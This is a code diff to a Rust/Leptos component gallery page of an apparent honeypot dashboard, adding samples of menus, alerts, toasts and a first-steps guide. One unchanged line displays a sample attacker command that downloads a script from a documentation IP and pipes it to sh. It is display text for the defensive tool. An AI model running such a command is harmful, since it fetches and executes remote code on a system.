@@ -4,7 +4,8 @@ use std::{collections::BTreeSet, sync::Arc};
 
 use decnet_model::{
     clock::from_micros,
-    state::{DeckyState, WorkerState},
+    state::{AlertKind, DeckyState, WorkerState},
+    view::AlertView,
 };
 use leptos::prelude::*;
 use time::Duration;
@@ -12,14 +13,19 @@ use time::Duration;
 use crate::{
     api::{Fault, FaultKind},
     components::{
+        bell::{Alerts, BellFace},
         chart::{HeatStrip, Histogram, Series},
+        download::Export,
         frame::{PageHead, ThemeChoice},
         glyph::Glyph,
+        guide::Guide,
         icon::{Icon, Mark},
         notice::{Empty, Loading, Problem},
+        range::RangeMenu,
         said::{Command, CopyButton, Said},
         stat::{ShareBar, StatCard, StateBadge, WorkerBadge},
         table::{Column, Leads, Listed, Table},
+        toast::{ToastCard, use_toasts},
         when::{Ago, Clock, Elapsed},
     },
     text,
@@ -28,6 +34,7 @@ use crate::{
 /// The page.
 #[component]
 pub(crate) fn GalleryPage() -> impl IntoView {
+    let toasts = use_toasts();
     view! {
         <PageHead title="Gallery" />
         <Piece title="Buttons">
@@ -79,7 +86,7 @@ pub(crate) fn GalleryPage() -> impl IntoView {
         <Piece title="Charts">
             <Histogram series=series(60, 1) what="events" />
             <Histogram series=Signal::stored(Series::default()) what="events" />
-            <HeatStrip series=series(144, 10) />
+            <HeatStrip series=series(144, 10) href=Callback::new(|_| "/gallery".to_owned()) />
         </Piece>
         <Piece title="What was said">
             <p><Said text="wget http://192.0.2.7/x.sh -O- | sh" /></p>
@@ -109,6 +116,37 @@ pub(crate) fn GalleryPage() -> impl IntoView {
                 .into_iter()
                 .collect_view()}
         </Piece>
+        <Piece title="Menus">
+            <div class="inline-form">
+                <Export from=Signal::stored("/api/v1/logs/export".to_owned()) />
+                <RangeMenu />
+                <details class="menu bell"><BellFace unread=0 /></details>
+                <details class="menu bell"><BellFace unread=3 /></details>
+            </div>
+        </Piece>
+        <Piece title="Alerts">
+            <Alerts alerts=Vec::new() />
+            <Alerts alerts=AlertKind::ALL.iter().map(|kind| alert(*kind)).collect() />
+        </Piece>
+        <Piece title="Toasts">
+            <div class="gallery-toasts">
+                <ToastCard words="The setting holds from now on.".to_owned() failed=false close=Callback::new(|()| ()) />
+                <ToastCard words="The server does not answer: no answer within 3 s".to_owned() failed=true close=Callback::new(|()| ()) />
+            </div>
+            <div class="inline-form">
+                <button type="button" class="button" on:click=move |_| toasts.done("It was done.")>"Something is done"</button>
+                <button
+                    type="button"
+                    class="button"
+                    on:click=move |_| toasts.failed(&Fault::new(FaultKind::Unavailable, "what happened, and why"))
+                >
+                    "Something fails"
+                </button>
+            </div>
+        </Piece>
+        <Piece title="First steps">
+            <Guide deckies=Signal::stored(Vec::new()) skip=RwSignal::new(false) />
+        </Piece>
         <Piece title="Forms">
             <div class="form">
                 <label><span>"Text"</span><input placeholder="placeholder" /></label>
@@ -125,6 +163,16 @@ pub(crate) fn GalleryPage() -> impl IntoView {
 #[component]
 fn Piece(title: &'static str, children: Children) -> impl IntoView {
     view! { <section class="panel"><header><h2>{title}</h2></header>{children()}</section> }.into_any()
+}
+
+fn alert(kind: AlertKind) -> AlertView {
+    AlertView {
+        kind,
+        count: 7,
+        names: vec!["web-01".into(), "127.0.0.1".into(), "ingester".into()],
+        detail: "what the first of them has".into(),
+        since: (kind == AlertKind::Intrusion).then(|| text::now() - Duration::minutes(4)),
+    }
 }
 
 /// Counts that rise and fall.
